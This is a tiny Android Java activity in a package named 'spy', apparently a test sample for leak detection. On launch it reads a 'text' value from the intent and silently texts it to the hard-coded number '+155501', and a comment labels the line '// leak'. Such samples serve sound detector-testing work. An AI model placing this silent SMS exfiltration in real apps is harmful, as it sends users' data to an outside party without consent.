package spy;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class FilterSecret extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        SmsManager.getDefault().sendTextMessage("+155501", null, getIntent().getStringExtra("text"), null, null); // leak
    }
}
